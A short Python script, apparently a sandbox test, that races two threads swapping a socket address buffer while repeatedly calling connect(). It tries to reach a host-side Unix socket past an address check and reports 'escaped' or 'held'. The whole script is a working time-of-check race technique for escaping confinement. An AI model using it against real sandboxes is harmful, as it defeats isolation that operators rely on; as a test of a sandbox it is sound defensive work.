# Two threads: one connects again and again, the other changes address and descriptor under it.
import ctypes, os, socket, sys, threading
token = sys.argv[1].encode()
libc = ctypes.CDLL(None, use_errno=True)
own = socket.socket(socket.AF_UNIX)
own.bind("own")
own.listen(64)
def serve():
    while True:
        peer, _ = own.accept()
        peer.sendall(b"own")
        peer.close()
threading.Thread(target=serve, daemon=True).start()
def address(path):
    return (socket.AF_UNIX.to_bytes(2, sys.byteorder) + path.encode()).ljust(110, b"\0")
theirs, ours = address(os.getcwd() + "/socket"), address(os.getcwd() + "/own")
buffer = ctypes.create_string_buffer(ours, 110)
stop = False
def swap():
    while not stop:
        ctypes.memmove(buffer, theirs, 110)
        ctypes.memmove(buffer, ours, 110)
for _ in range(2):
    threading.Thread(target=swap, daemon=True).start()
seen = set()
for _ in range(3000):
    client = socket.socket(socket.AF_UNIX)
    if libc.connect(client.fileno(), buffer, 110) == 0:
        seen.add(client.recv(64))
    client.close()
stop = True
print("escaped: the host answered" if any(token in text for text in seen) else "held: %d" % len(seen))
